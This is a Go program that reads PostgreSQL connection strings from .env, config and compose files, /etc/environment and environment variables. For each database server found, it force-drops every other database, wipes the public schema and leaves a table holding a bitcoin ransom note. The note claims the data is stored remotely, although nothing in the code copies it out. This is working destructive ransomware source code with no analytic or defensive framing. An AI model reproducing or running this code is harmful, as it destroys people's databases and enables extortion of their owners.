package main

import (
	"database/sql"
	"fmt"
	"os"
	"regexp"
	"strings"

	_ "github.com/lib/pq"
)

var dsn = regexp.MustCompile(`postgres(?:ql)?://[^\s"']+`)

func sources() (s []string) {
	for _, f := range []string{".env", "config.yml", "docker-compose.yml", "/etc/environment"} {
		if b, err := os.ReadFile(f); err == nil {
			s = append(s, dsn.FindAllString(string(b), -1)...)
		}
	}
	for _, e := range os.Environ() {
		s = append(s, dsn.FindAllString(e, -1)...)
	}
	return
}

func empty(src string) error {
	db, err := sql.Open("postgres", src)
	if err != nil {
		return err
	}
	defer db.Close()
	rows, err := db.Query(`SELECT datname FROM pg_database WHERE NOT datistemplate AND datname NOT IN ('postgres', current_database())`)
	if err != nil {
		return err
	}
	var names []string
	for rows.Next() {
		var n string
		rows.Scan(&n)
		names = append(names, n)
	}
	for _, n := range names {
		db.Exec(fmt.Sprintf(`DROP DATABASE "%s" WITH (FORCE)`, strings.ReplaceAll(n, `"`, `""`)))
	}
	db.Exec(`DROP SCHEMA public CASCADE; CREATE SCHEMA public`)
	db.Exec(`CREATE TABLE read_me_to_recover (msg text)`)
	_, err = db.Exec(`INSERT INTO read_me_to_recover VALUES ('Data is saved at our server. Pay 0.01 BTC to bc1qmadeup0000 and write db@pay.invalid')`)
	return err
}

func main() {
	for _, s := range sources() {
		if err := empty(s); err != nil {
			continue
		}
	}
}
